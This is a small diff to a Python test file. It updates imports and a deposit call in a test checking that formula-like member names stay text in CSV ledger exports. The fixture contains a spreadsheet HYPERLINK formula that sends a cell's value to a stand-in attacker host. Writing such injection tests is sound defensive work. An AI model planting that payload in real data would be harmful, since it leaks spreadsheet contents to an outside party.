@@ -21,7 +21,7 @@ from collective.ledger import services as ledger
 from collective.ledger.models import JournalEntry
 from collective.members import services as members
 from collective.members.models import Membership
-from collective.pool import services as pool
+from collective.pool import payouts
 from collective.pool.models import ClientPayment, TimeEntry
 from collective.reports import exports
 from tests import test_pool_views
@@ -124,8 +124,8 @@ def test_names_that_look_like_formulas_stay_text_in_exports(ctx):
     founder = make_collective()
     members.update_profile(founder.user, name='=HYPERLINK("http://e.vil/?x="&D2,"Priya")',
                            timezone="UTC", country=None, skills={})
-    pool.record_deposit(founder, founder, amount=1000, received_on=date.today(),
-                        request_key="formula-1")
+    payouts.record_deposit(founder, founder, amount=1000, received_on=date.today(),
+                           request_key="formula-1", today=date.today())
     commit()
     query = exports.LedgerQuery(founder.collective_id, date(2026, 1, 1), date.today())
     rows = list(csv.DictReader(io.StringIO(b"".join(exports.csv_chunks(query)).decode())))
